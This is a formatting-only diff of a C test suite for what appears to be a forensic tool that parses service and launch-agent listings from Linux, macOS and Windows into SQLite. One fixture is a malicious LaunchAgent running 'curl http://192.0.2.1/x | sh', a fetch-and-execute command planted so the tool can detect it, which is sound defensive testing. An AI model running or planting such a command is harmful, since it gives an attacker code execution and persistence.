@@ -57,7 +57,8 @@ static const struct form {
      "     Loaded: loaded (/usr/lib/systemd/system/ssh.service; enabled; preset: enabled)\n"
      "     Active: active (running) since Tue 2026-11-24 10:00:00 UTC; 3h ago\n"
      "   Main PID: 812 (sshd)\n\nNov 24 10:00:00 h systemd[1]: Started ssh.service.\n\n"
-     "\xe2\x97\x8b apt.timer - x\n     Loaded: loaded (/usr/lib/systemd/system/apt.timer; disabled; "
+     "\xe2\x97\x8b apt.timer - x\n     Loaded: loaded (/usr/lib/systemd/system/apt.timer; "
+     "disabled; "
      "preset: enabled)\n     Active: inactive (dead)\n",
      "ssh.service|RUNNING|AUTO_START|NULL\napt.timer|STOPPED|DEMAND_START|NULL"},
     {"units.json", "systemctl list-units",
@@ -82,7 +83,8 @@ static const struct form {
      "gui/501/com.example.b = {\n\tactive count = 1\n\tpath = "
      "/Users/x/Library/LaunchAgents/b.plist\n"
      "\ttype = LaunchAgent\n\tstate = running\n\n\tprogram = /Users/x/.b\n\targuments = {\n"
-     "\t\t/Users/x/.b\n\t\t-c\n\t\techo {\n\t}\n\n\tenvironment = {\n\t\tA => b\n\t}\n\n\tpid = 345\n"
+     "\t\t/Users/x/.b\n\t\t-c\n\t\techo {\n\t}\n\n\tenvironment = {\n\t\tA => b\n\t}\n\n\tpid = "
+     "345\n"
      "\tlast exit code = (never exited)\n\n\tproperties = keepalive | runatload\n}\n"
      "system = {\n\ttype = system\n\tservices = {\n\t\t   123      - \tcom.apple.x\n"
      "\t\t     0   (pe) \tcom.apple.y\n\t}\n\n\tdisabled services = {\n"
@@ -113,7 +115,8 @@ static const struct form {
      "        DEPENDENCIES       : RPCSS\n                           : http\n"
      "        SERVICE_START_NAME : LocalSystem\n[SC] QueryServiceConfig SUCCESS\n\n"
      "SERVICE_NAME: b\n        TYPE               : 1  KERNEL_DRIVER\n"
-     "        START_TYPE         : 0   BOOT_START\n        BINARY_PATH_NAME   : \\SystemRoot\\b.sys\n",
+     "        START_TYPE         : 0   BOOT_START\n        BINARY_PATH_NAME   : "
+     "\\SystemRoot\\b.sys\n",
      "evil|NULL|AUTO_START|C:\\Users\\Public\\x.exe -k\nb|NULL|BOOT_START|\\SystemRoot\\b.sys"},
     {"reg_query.txt", "reg query",
      "\nHKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\evil\n"
@@ -141,7 +144,8 @@ static const struct form {
      "\nName                : Spooler\nRequiredServices    : {RPCSS, http}\n"
      "CanPauseAndContinue : False\nDisplayName         : Print Spooler\nMachineName         : .\n"
      "Status              : Running\nServicesDependedOn  : {RPCSS, http}\n"
-     "ServiceType         : Win32OwnProcess, InteractiveProcess\nStartType           : Automatic\n\n"
+     "ServiceType         : Win32OwnProcess, InteractiveProcess\nStartType           : "
+     "Automatic\n\n"
      "Name                : evil\nDisplayName         : Evil\nStatus              : Stopped\n"
      "StartType           : Manual\n\n",
      "Spooler|RUNNING|AUTO_START|NULL\nevil|STOPPED|DEMAND_START|NULL"},
@@ -155,7 +159,8 @@ static const struct form {
      "PathName       : \"C:\\Program Files\\long \n                 folder\\b.exe\" -a\n"
      "StartMode      : Auto\nStartName      : LocalSystem\nState          : Running\n"
      "ProcessId      : 77\n\nName      : b\nStartMode : Disabled\nState     : Stopped\n",
-     "evil|RUNNING|AUTO_START|\"C:\\Program Files\\long folder\\b.exe\" -a\nb|STOPPED|DISABLED|NULL"},
+     "evil|RUNNING|AUTO_START|\"C:\\Program Files\\long folder\\b.exe\" "
+     "-a\nb|STOPPED|DISABLED|NULL"},
     {"Win32_Service_table.txt", "Win32_Service",
      "\nProcessId Name      StartMode State   Status ExitCode\n"
      "--------- ----      --------- -----   ------ --------\n"
@@ -198,7 +203,8 @@ static const struct form {
     {"Windows.System.Services.json", "Win32_Service",
      "{\"State\":\"Running\",\"Name\":\"evil\",\"DisplayName\":\"E\",\"Status\":\"OK\",\"Pid\":77,"
      "\"ExitCode\":0,\"StartMode\":\"Auto\",\"PathName\":\"C:\\\\x.exe -k\",\"ServiceType\":"
-     "\"Own Process\",\"UserAccount\":\"LocalSystem\",\"ServiceDll\":null,\"FailureCommand\":\"\"}\n",
+     "\"Own "
+     "Process\",\"UserAccount\":\"LocalSystem\",\"ServiceDll\":null,\"FailureCommand\":\"\"}\n",
      "evil|RUNNING|AUTO_START|C:\\x.exe -k"},
     {"osquery_services.json", "osquery services",
      "[{\"name\":\"evil\",\"service_type\":\"OWN_PROCESS\",\"display_name\":\"E\",\"status\":"
@@ -244,7 +250,10 @@ static char *rewrite(const char *text, enum writing writing, size_t *ret_size)
     for (const unsigned char *at = (const unsigned char *)text; *at;) {
         uint32_t c = *at++;
         if (writing != PLAIN && c == '\n' && writing != MARKED)
-            buffer_put(&out, writing == CRLF ? "\r" : writing == WIDE ? "\r\0" : "\0\r",
+            buffer_put(&out,
+                       writing == CRLF   ? "\r"
+                       : writing == WIDE ? "\r\0"
+                                         : "\0\r",
                        writing == CRLF ? 1 : 2);
         if (writing != WIDE && writing != WIDE_BIG) {
             buffer_putc(&out, (char)c);
@@ -282,9 +291,9 @@ START_TEST(every_form_is_read_however_it_is_written)
                        "FROM service_listings WHERE source = '%s/%s'",
                        dir, forms[i].file);
         ck_assert_msg(
-            harness_int(db,
-                        "SELECT count(*) FROM service_listings WHERE source = '%s/%s' AND form = '%s'",
-                        dir, forms[i].file, forms[i].form) > 0,
+            harness_int(
+                db, "SELECT count(*) FROM service_listings WHERE source = '%s/%s' AND form = '%s'",
+                dir, forms[i].file, forms[i].form) > 0,
             "%s: another form", forms[i].file);
         harness_expect(db, "service_listings|read|0",
                        "SELECT table_name, status, skipped FROM evidence_sources "
@@ -338,10 +347,11 @@ START_TEST(listed_services_are_judged_as_others)
                        "ExecStart={ path=/tmp/x ; argv[]=/tmp/x -a ; ignore_errors=no ; "
                        "start_time=[n/a] }\nId=evil.service\nLoadState=loaded\n"
                        "FragmentPath=/etc/systemd/system/evil.service\n");
-    harness_write_text(dir, "print.txt",
-                       "gui/501/com.evil = {\n\tpath = /Users/a/Library/LaunchAgents/com.evil.plist\n"
-                       "\tprogram = /bin/sh\n\targuments = {\n\t\t/bin/sh\n\t\t-c\n"
-                       "\t\tcurl http://192.0.2.1/x | sh\n\t}\n}\n");
+    harness_write_text(
+        dir, "print.txt",
+        "gui/501/com.evil = {\n\tpath = /Users/a/Library/LaunchAgents/com.evil.plist\n"
+        "\tprogram = /bin/sh\n\targuments = {\n\t\t/bin/sh\n\t\t-c\n"
+        "\t\tcurl http://192.0.2.1/x | sh\n\t}\n}\n");
     harness_write_text(dir, "disabled.txt",
                        "\tdisabled services = {\n\t\t\"com.apple.security.syspolicy\" => disabled\n"
                        "\t\t\"com.crowdstrike.falcond\" => disabled\n\t}\n");
@@ -401,11 +411,12 @@ END_TEST
 START_TEST(systemctl_says_what_the_tables_do)
 {
     ENTER();
-    systemd_shell("printf '[Unit]\\nDescription=The evil one\\n[Service]\\nUser=tester\\n"
-                  "ExecStart=/bin/sleep 1000\\nExecStop=/bin/true \"a b\"\\n[Install]\\n"
-                  "WantedBy=multi-user.target\\n' > /etc/systemd/system/evil.service; "
-                  "systemctl daemon-reload; systemctl -q enable --now evil.service; mkdir -p %s/said",
-                  box);
+    systemd_shell(
+        "printf '[Unit]\\nDescription=The evil one\\n[Service]\\nUser=tester\\n"
+        "ExecStart=/bin/sleep 1000\\nExecStop=/bin/true \"a b\"\\n[Install]\\n"
+        "WantedBy=multi-user.target\\n' > /etc/systemd/system/evil.service; "
+        "systemctl daemon-reload; systemctl -q enable --now evil.service; mkdir -p %s/said",
+        box);
     systemd_shell("cd %s/said; systemctl list-units --all > list-units.txt; "
                   "systemctl list-units --all --output=json > list-units.json; "
                   "systemctl list-unit-files > list-unit-files.txt; "
@@ -416,15 +427,16 @@ START_TEST(systemctl_says_what_the_tables_do)
     sqlite3 *db = harness_open();
     for (int json = 0; json < 2; json++) {
         const char *end = json ? "json" : "txt";
-        harness_expect(db, "0|0",
-                       "SELECT (SELECT count(*) FROM (SELECT id, CASE active_state WHEN 'active' "
-                       "THEN 'RUNNING' WHEN 'inactive' THEN 'STOPPED' ELSE upper(active_state) END, "
-                       "load_state FROM systemd_units WHERE scope = 'system' "
-                       "EXCEPT SELECT name COLLATE BINARY, status, load_state "
-                       "FROM service_listings('%s/said/list-units.%s'))), (SELECT count(*) FROM "
-                       "(SELECT name COLLATE BINARY FROM service_listings('%s/said/list-units.%s') "
-                       "EXCEPT SELECT id FROM systemd_units))",
-                       box, end, box, end);
+        harness_expect(
+            db, "0|0",
+            "SELECT (SELECT count(*) FROM (SELECT id, CASE active_state WHEN 'active' "
+            "THEN 'RUNNING' WHEN 'inactive' THEN 'STOPPED' ELSE upper(active_state) END, "
+            "load_state FROM systemd_units WHERE scope = 'system' "
+            "EXCEPT SELECT name COLLATE BINARY, status, load_state "
+            "FROM service_listings('%s/said/list-units.%s'))), (SELECT count(*) FROM "
+            "(SELECT name COLLATE BINARY FROM service_listings('%s/said/list-units.%s') "
+            "EXCEPT SELECT id FROM systemd_units))",
+            box, end, box, end);
         harness_expect(db, "evil.service|enabled|AUTO_START",
                        "SELECT name, state, start_type FROM "
                        "service_listings('%s/said/list-unit-files.%s') WHERE name = 'evil.service'",
@@ -435,12 +447,14 @@ START_TEST(systemctl_says_what_the_tables_do)
             harness_int(db, "SELECT count(*) FROM service_listings('%s/said/list-unit-files.txt')",
                         box));
     }
-    harness_expect(db, "0",
-                   "SELECT count(*) FROM (SELECT id, load_state, nullif(fragment_path, ''), "
-                   "nullif(unit_file_state, ''), nullif(main_pid, 0) FROM systemd_units WHERE scope = "
-                   "'system' AND active_state = 'active' AND type = 'service' EXCEPT SELECT name COLLATE BINARY, load_state, "
-                   "definition COLLATE BINARY, state, pid FROM service_listings('%s/said/show.txt'))",
-                   box);
+    harness_expect(
+        db, "0",
+        "SELECT count(*) FROM (SELECT id, load_state, nullif(fragment_path, ''), "
+        "nullif(unit_file_state, ''), nullif(main_pid, 0) FROM systemd_units WHERE scope = "
+        "'system' AND active_state = 'active' AND type = 'service' EXCEPT SELECT name COLLATE "
+        "BINARY, load_state, "
+        "definition COLLATE BINARY, state, pid FROM service_listings('%s/said/show.txt'))",
+        box);
     harness_expect(db, "tester|/bin/sleep 1000|/bin/sleep|The evil one|RUNNING|2",
                    "SELECT user_account, command, program, description, status, "
                    "json_array_length(commands) FROM service_listings('%s/said/show.txt') "
@@ -474,17 +488,18 @@ START_TEST(reg_says_what_the_hive_does)
         make_hive_dword(key, "Start", i % 5);
         make_hive_expand(key, "ImagePath", image);
         make_hive_string(key, "ObjectName", i % 2 ? "LocalSystem" : "NT AUTHORITY\\NetworkService");
-        buffer_printf(&query,
-                      "\nHKEY_LOCAL_MACHINE\\SYSTEM\\%s\n    Type    REG_DWORD    0x%x\n    Start    "
-                      "REG_DWORD    0x%x\n    ImagePath    REG_EXPAND_SZ    %s\n    ObjectName    "
-                      "REG_SZ    %s\n",
-                      path, types[i % 5], i % 5, image,
-                      i % 2 ? "LocalSystem" : "NT AUTHORITY\\NetworkService");
-        buffer_printf(&file,
-                      "[HKEY_LOCAL_MACHINE\\SYSTEM\\%s]\n\"Type\"=dword:%08x\n\"Start\"=dword:%08x\n"
-                      "\"ObjectName\"=\"%s\"\n\"ImagePath\"=hex(2):",
-                      path, types[i % 5], i % 5,
-                      i % 2 ? "LocalSystem" : "NT AUTHORITY\\\\NetworkService");
+        buffer_printf(
+            &query,
+            "\nHKEY_LOCAL_MACHINE\\SYSTEM\\%s\n    Type    REG_DWORD    0x%x\n    Start    "
+            "REG_DWORD    0x%x\n    ImagePath    REG_EXPAND_SZ    %s\n    ObjectName    "
+            "REG_SZ    %s\n",
+            path, types[i % 5], i % 5, image,
+            i % 2 ? "LocalSystem" : "NT AUTHORITY\\NetworkService");
+        buffer_printf(
+            &file,
+            "[HKEY_LOCAL_MACHINE\\SYSTEM\\%s]\n\"Type\"=dword:%08x\n\"Start\"=dword:%08x\n"
+            "\"ObjectName\"=\"%s\"\n\"ImagePath\"=hex(2):",
+            path, types[i % 5], i % 5, i % 2 ? "LocalSystem" : "NT AUTHORITY\\\\NetworkService");
         for (const char *at = image; *at; at++)
             buffer_printf(&file, "%02x,00,%s", (unsigned char)*at, at[1] == 's' ? "\\\n  " : "");
         buffer_puts(&file, "00,00\n\n");
@@ -495,13 +510,14 @@ START_TEST(reg_says_what_the_hive_does)
     harness_write(dir, "export.reg", file.data, file.size);
     buffer_free(&query);
     buffer_free(&file);
-    for (int export = 0; export < 2; export++)
-        harness_expect(db, "40|0",
-                       "SELECT count(*), (SELECT count(*) FROM (SELECT name, service_type, start_type, "
-                       "image_path, object_name FROM registry_services('%s/SYSTEM') EXCEPT SELECT "
-                       "name, service_type, start_type, command, user_account FROM "
-                       "service_listings('%s/%s'))) FROM registry_services('%s/SYSTEM')",
-                       dir, dir, export ? "export.reg" : "query.txt", dir);
+    for (int export = 0; export < 2; export ++)
+        harness_expect(
+            db, "40|0",
+            "SELECT count(*), (SELECT count(*) FROM (SELECT name, service_type, start_type, "
+            "image_path, object_name FROM registry_services('%s/SYSTEM') EXCEPT SELECT "
+            "name, service_type, start_type, command, user_account FROM "
+            "service_listings('%s/%s'))) FROM registry_services('%s/SYSTEM')",
+            dir, dir, export ? "export.reg" : "query.txt", dir);
     harness_close(db);
 }
 END_TEST
@@ -520,9 +536,10 @@ START_TEST(what_the_disk_says_too_is_judged_once)
     make_hive_expand(key, "ImagePath", "C:\\Users\\Public\\x.exe");
     make_hive_file(hive, dir, "SYSTEM");
     make_hive_free(hive);
-    harness_write_text(dir, "sc.txt",
-                       "SERVICE_NAME: evil\n        BINARY_PATH_NAME   : C:\\Users\\Public\\x.exe\n"
-                       "SERVICE_NAME: other\n        BINARY_PATH_NAME   : C:\\Users\\Public\\y.exe\n");
+    harness_write_text(
+        dir, "sc.txt",
+        "SERVICE_NAME: evil\n        BINARY_PATH_NAME   : C:\\Users\\Public\\x.exe\n"
+        "SERVICE_NAME: other\n        BINARY_PATH_NAME   : C:\\Users\\Public\\y.exe\n");
     harness_query(db, "DELETE FROM evidence; INSERT INTO evidence(location) VALUES ('%s')", dir);
     harness_expect(db, "SYSTEM|sc.txt",
                    "SELECT group_concat(replace(source, '%s/', ''), '|') FROM (SELECT source FROM "
